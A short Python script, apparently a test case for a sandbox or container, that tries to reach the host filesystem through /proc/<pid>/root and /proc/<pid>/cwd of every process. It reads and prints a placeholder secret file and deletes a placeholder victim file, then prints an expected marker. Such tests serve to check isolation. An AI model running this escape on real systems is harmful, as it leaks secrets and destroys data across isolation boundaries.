# Reach the host's filesystem through /proc/<pid>/root and /proc/<pid>/cwd of every visible process.
# expect: ESCAPE_TRIED
import os

for entry in os.listdir("/proc"):
    for link in ("root", "cwd"):
        for path in (SECRET_FILE, VICTIM):
            try:
                print(open(f"/proc/{entry}/{link}{path}").read())
                os.remove(f"/proc/{entry}/{link}{path}")
            except OSError:
                pass
print("ESCAPE_TRIED")
